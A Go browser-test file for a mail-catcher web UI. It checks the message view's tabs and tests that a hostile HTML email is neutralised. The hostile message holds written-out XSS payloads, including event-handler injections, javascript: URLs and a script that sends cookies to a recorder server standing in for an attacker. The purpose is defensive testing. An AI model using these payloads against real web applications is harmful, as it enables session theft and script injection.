package webui_test

// Browser tests of the message view: every tab, and hostile HTML.

import (
	"context"
	"io"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"
)

const titleRe = `/^(\(\d[\d,]*\) )?intray$/`

// richMessage has every part the view shows: text, HTML with an inline
// image, a PDF attachment, links, Cc and (in the envelope) a Bcc.
const richMessage = `From: "Shop" <shop@example.com>
To: "Dev One" <dev1@example.com>
Cc: dev2@example.com
Subject: =?utf-8?q?Your_order_=E2=9C=93?=
Date: Tue, 04 Mar 2025 10:00:00 +0000
Message-ID: <rich@example.com>
X-Custom: =?utf-8?b?Y2Fmw6k=?=
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="outer"

--outer
Content-Type: multipart/alternative; boundary="alt"

--alt
Content-Type: text/plain; charset=utf-8

Plain body: confirm at https://shop.example.com/confirm?token=abc
--alt
Content-Type: multipart/related; boundary="rel"

--rel
Content-Type: text/html; charset=utf-8

<html><body><h1 id="greet">Hello HTML</h1><p>Confirm at <a href="https://shop.example.com/confirm?token=abc">the shop</a>.</p><img src="cid:logo@shop" alt="logo"></body></html>
--rel
Content-Type: image/png
Content-ID: <logo@shop>
Content-Transfer-Encoding: base64

iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==
--rel--
--alt--
--outer
Content-Type: application/pdf; name="report.pdf"
Content-Disposition: attachment; filename="report.pdf"
Content-Transfer-Encoding: base64

JVBERi0xLjQKJSVFT0YK
--outer--
`

func TestBrowserMessageTabs(t *testing.T) {
	in := newInbox(t)
	in.open()
	in.send(msg{raw: richMessage, from: "shop@example.com",
		to: []string{"dev1@example.com"}, cc: []string{"dev2@example.com"}, bcc: []string{"hidden@example.com"}})
	in.waitRows("Your order ✓")
	m := in.bySubject("Your order ✓")
	if got := in.text("#row-" + m.ID + " .clip .vh"); got == "" {
		t.Error("no attachment mark on the row")
	}
	in.click("#row-" + m.ID)
	in.waitFor(`document.querySelector('#msg-subject').textContent === 'Your order ✓' && document.querySelector('#msg-meta').textContent.includes('Bcc')`,
		`document.querySelector('#message').textContent`)

	meta := eval[map[string]string](in, `Object.fromEntries([...document.querySelectorAll('#msg-meta .meta-row')].map(r => [r.querySelector('dt').textContent, r.querySelector('dd').textContent]))`)
	for k, want := range map[string]string{
		"From": "Shop <shop@example.com>", "To": "Dev One <dev1@example.com>",
		"Cc": "dev2@example.com", "Bcc": "hidden@example.com",
	} {
		if meta[k] != want {
			t.Errorf("%s = %q, want %q", k, meta[k], want)
		}
	}
	if !strings.Contains(meta["Date"], "2025") {
		t.Errorf("Date = %q", meta["Date"])
	}
	dl := eval[map[string]string](in, `({href: document.querySelector('#download').getAttribute('href'), name: document.querySelector('#download').getAttribute('download')})`)
	if dl["href"] != "/api/v1/messages/"+m.ID+"/raw" || !strings.HasSuffix(dl["name"], ".eml") {
		t.Errorf("download link = %v", dl)
	}

	// HTML: a sandboxed iframe without scripts or the page's origin.
	in.waitFor(`document.querySelector('#tab-html').getAttribute('aria-selected') === 'true' && document.querySelector('#panel-html iframe')?.dataset.loaded === '1'`,
		`document.querySelector('#panel-html').innerHTML`)
	frame := eval[map[string]string](in, `(f => ({sandbox: f.getAttribute('sandbox'), src: f.getAttribute('src')}))(document.querySelector('#panel-html iframe'))`)
	if strings.Contains(frame["sandbox"], "allow-scripts") || strings.Contains(frame["sandbox"], "allow-same-origin") {
		t.Errorf("iframe sandbox = %q", frame["sandbox"])
	}
	if frame["src"] != "/api/v1/messages/"+m.ID+"/html" {
		t.Errorf("iframe src = %q", frame["src"])
	}
	if got := in.frameHTML(m.ID); !strings.Contains(got, "Hello HTML") {
		t.Errorf("iframe document = %q, want the HTML body", got)
	}
	if eval[bool](in, `!!document.querySelector('#remote-notice')`) {
		t.Error("remote-content notice shown for a message without remote content")
	}

	tab := func(id string) string {
		t.Helper()
		in.click("#tab-" + id)
		in.waitFor(`document.querySelector('#tab-`+id+`').getAttribute('aria-selected') === 'true' && !document.querySelector('#panel-`+id+`').hidden`, "")
		return in.text("#panel-" + id)
	}
	if got := tab("text"); !strings.Contains(got, "Plain body: confirm at https://shop.example.com/confirm?token=abc") {
		t.Errorf("Text tab = %q", got)
	}
	headers := tab("headers")
	for _, want := range []string{"X-Custom", "café", "Message-ID", "<rich@example.com>"} {
		if !strings.Contains(headers, want) {
			t.Errorf("Headers tab lacks %q: %q", want, headers)
		}
	}
	tab("raw")
	in.waitFor(`document.querySelector('#panel-raw pre').textContent.includes('boundary="outer"')`, `document.querySelector('#panel-raw').textContent.slice(0, 200)`)
	if got := in.text("#panel-raw pre"); !strings.Contains(got, "JVBERi0xLjQKJSVFT0YK") || !strings.Contains(got, "=?utf-8?q?Your_order_=E2=9C=93?=") {
		t.Errorf("Raw tab is not the source: %q", got)
	}
	tab("mime")
	parts := eval[[]string](in, `[...document.querySelectorAll('#panel-mime .part')].map(p => p.querySelector('.part-id').textContent + ' ' + p.querySelector('.ctype').textContent)`)
	wantParts := []string{"1 multipart/alternative", "1.1 text/plain", "1.2 multipart/related", "1.2.1 text/html", "1.2.2 image/png", "2 application/pdf"}
	if !slices.Equal(parts, wantParts) {
		t.Errorf("MIME tree = %q, want %q", parts, wantParts)
	}
	if got := tab("attachments"); !strings.Contains(got, "report.pdf") || !strings.Contains(got, "application/pdf") {
		t.Errorf("Attachments tab = %q", got)
	}
	if got := in.text("#tab-attachments .count"); got != "1" {
		t.Errorf("attachment count = %q", got)
	}
	href := eval[string](in, `document.querySelector('#panel-attachments a').getAttribute('href')`)
	if body := httpGet(t, in.url+strings.TrimPrefix(href, "/")); body != "%PDF-1.4\n%%EOF\n" {
		t.Errorf("attachment download %s = %q", href, body)
	}
	tab("links")
	if got := eval[[]string](in, `[...document.querySelectorAll('#panel-links a')].map(a => a.href + ' ' + a.target + ' ' + a.rel)`); !slices.Equal(got, []string{"https://shop.example.com/confirm?token=abc _blank noopener noreferrer"}) {
		t.Errorf("Links tab = %q", got)
	}
	env := tab("envelope")
	for _, want := range []string{"<shop@example.com>", "<hidden@example.com>", "client.test", "127.0.0.1:", "C: MAIL FROM:<shop@example.com>", "S: 250"} {
		if !strings.Contains(env, want) {
			t.Errorf("Envelope tab lacks %q: %q", want, env)
		}
	}

	// The tabs are a keyboard-operable tablist.
	in.do(chromedp.Focus(chromedp.CSS("#tab-envelope")))
	in.key(kb.ArrowLeft)
	in.waitFor(`document.activeElement.id === 'tab-links' && !document.querySelector('#panel-links').hidden`, `document.activeElement.id`)
}

// frameHTML returns the document of the message's HTML iframe. The frame
// is sandboxed (an opaque origin), so Chromium may run it in a process of
// its own: it is read through its own target when it has one.
func (in *inbox) frameHTML(id string) string {
	in.t.Helper()
	ctx, cancel := context.WithTimeout(in.ctx, stepTimeout)
	defer cancel()
	infos, err := chromedp.Targets(ctx)
	if err != nil {
		in.t.Fatal(err)
	}
	for _, info := range infos {
		if info.Type == "iframe" && strings.Contains(info.URL, "/api/v1/messages/"+id+"/html") {
			fctx, fcancel := chromedp.NewContext(ctx, chromedp.WithTargetID(info.TargetID), chromedp.WithDetachOnCancel())
			defer fcancel()
			html, err := chromedp.Run(fctx, chromedp.OuterHTML(chromedp.CSS("html")))
			if err != nil {
				in.t.Fatalf("read the iframe: %v", err)
			}
			return html
		}
	}
	nodes, err := chromedp.Run(ctx, chromedp.Nodes(chromedp.CSS("#panel-html iframe")))
	if err != nil || len(nodes) == 0 {
		in.t.Fatalf("no iframe: %v", err)
	}
	html, err := chromedp.Run(ctx, chromedp.OuterHTML(chromedp.CSS("html"), chromedp.FromNode(nodes[0])))
	if err != nil {
		in.t.Fatalf("read the iframe: %v", err)
	}
	return html
}

func httpGet(t *testing.T, url string) string {
	t.Helper()
	res, err := http.Get(url)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	b, err := io.ReadAll(res.Body)
	if err != nil {
		t.Fatal(err)
	}
	if res.StatusCode != http.StatusOK {
		t.Fatalf("GET %s: %s %s", url, res.Status, b)
	}
	return string(b)
}

// remoteRecorder is a second local server standing for the internet: it
// records every request a message makes it.
type remoteRecorder struct {
	*httptest.Server
	mu    sync.Mutex
	paths []string
}

func newRemoteRecorder(t *testing.T) *remoteRecorder {
	r := &remoteRecorder{}
	r.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		r.mu.Lock()
		r.paths = append(r.paths, req.URL.Path)
		r.mu.Unlock()
		if strings.HasSuffix(req.URL.Path, ".png") {
			w.Header().Set("Content-Type", "image/png")
			w.Write(onePixelPNG)
			return
		}
		w.Write([]byte("ok"))
	}))
	t.Cleanup(r.Close)
	return r
}

func (r *remoteRecorder) requests() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	return slices.Clone(r.paths)
}

var onePixelPNG = []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\xdac\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00\x00\x00IEND\xaeB`\x82")

func TestBrowserHostileHTML(t *testing.T) {
	in := newInbox(t)
	remote := newRemoteRecorder(t)
	r := remote.URL
	hostile := `<!doctype html><html><head>
<meta http-equiv="refresh" content="0;url=` + r + `/refresh">
<link rel="stylesheet" href="` + r + `/style.css">
<style>body { background: url(` + r + `/bg.png) }</style>
<script>
window.hacked = 1; parent.hacked = 1; top.hacked = 1;
parent.document.title = 'pwned';
new Image().src = '` + r + `/steal?c=' + encodeURIComponent(document.cookie + '|' + parent.document.cookie);
</script>
<script src="` + r + `/evil.js"></script>
</head>
<body onload="parent.hacked = 2; parent.document.title = 'pwned onload'">
<h1 id="hostile">Hostile body</h1>
<img src="` + r + `/pixel.png" alt="tracker">
<img src="x" onerror="parent.hacked = 3; parent.document.title = 'pwned onerror'; new Image().src = '` + r + `/steal-onerror'">
<svg onload="parent.hacked = 4"><circle r="1"/></svg>
<iframe src="javascript:parent.parent.hacked = 5"></iframe>
<object data="` + r + `/object.swf"></object>
<form action="` + r + `/form" method="post"><input name="a" autofocus onfocus="parent.hacked = 6"></form>
<a id="jslink" href="javascript:parent.hacked = 7">click</a>
</body></html>`
	subject := `<img src=x onerror="window.hacked=8">Sale`
	in.add(msg{raw: "From: \"<script>window.hacked=9</script>\" <evil@example.com>\r\nTo: victim@example.com\r\n" +
		"Subject: " + subject + "\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + hostile,
		from: "evil@example.com", to: []string{"victim@example.com"}})
	in.open()
	// A cookie on the inbox's origin that the mail must not be able to read.
	eval[string](in, `document.cookie = 'session=secret; path=/'`)
	in.waitRows(subject)
	if n := eval[int](in, `document.querySelectorAll('#list img, #list script, #msg-meta script').length`); n != 0 {
		t.Errorf("mail markup became %d elements in the list", n)
	}
	in.key("j")
	in.key(kb.Enter)
	in.waitFor(`document.querySelector('#panel-html iframe')?.dataset.loaded === '1'`, `document.querySelector('#panel-html').innerHTML`)
	if got := in.text("#msg-subject"); got != subject {
		t.Errorf("subject shown as %q", got)
	}
	if got := in.text("#msg-meta"); !strings.Contains(got, "<script>window.hacked=9</script>") {
		t.Errorf("From not shown as text: %q", got)
	}
	if got := in.frameHTML(in.bySubject(subject).ID); !strings.Contains(got, "Hostile body") {
		t.Errorf("iframe document = %.300q", got)
	}
	// Remote content was blocked, and the view says so.
	in.waitFor(`!!document.querySelector('#remote-notice')`, "")
	// Give a late meta refresh or timer a round trip to the server to show up.
	httpGet(t, in.url+"api/v1/info")
	check := func(stage string) {
		t.Helper()
		if v := eval[any](in, `window.hacked`); v != nil {
			t.Errorf("%s: window.hacked = %v: mail ran script in the page", stage, v)
		}
		if title := eval[string](in, `document.title`); !eval[bool](in, titleRe+`.test(document.title)`) {
			t.Errorf("%s: title = %q", stage, title)
		}
		if c := eval[string](in, `document.cookie`); c != "session=secret" {
			t.Errorf("%s: cookie = %q", stage, c)
		}
		if eval[string](in, `location.pathname`) != "/" {
			t.Errorf("%s: the page navigated", stage)
		}
	}
	check("blocked")
	if got := remote.requests(); len(got) != 0 {
		t.Errorf("the hostile message reached the remote server: %q", got)
	}

	// Asked for, remote images load (which proves the recorder works), but
	// still no script runs, nothing is sent anywhere else.
	in.click("#load-remote")
	in.waitFor(`!document.querySelector('#remote-notice') && document.querySelector('#panel-html iframe').getAttribute('src').endsWith('/html?remote=1') && document.querySelector('#panel-html iframe').dataset.loaded === '1'`,
		`document.querySelector('#panel-html').innerHTML`)
	httpGet(t, in.url+"api/v1/info")
	check("remote allowed")
	got := remote.requests()
	if !slices.Contains(got, "/pixel.png") {
		t.Errorf("remote image not loaded after Load remote content: %q", got)
	}
	for _, p := range got {
		switch p {
		case "/pixel.png", "/bg.png", "/style.css":
		default:
			t.Errorf("the hostile message requested %s (all: %q)", p, got)
		}
	}
}
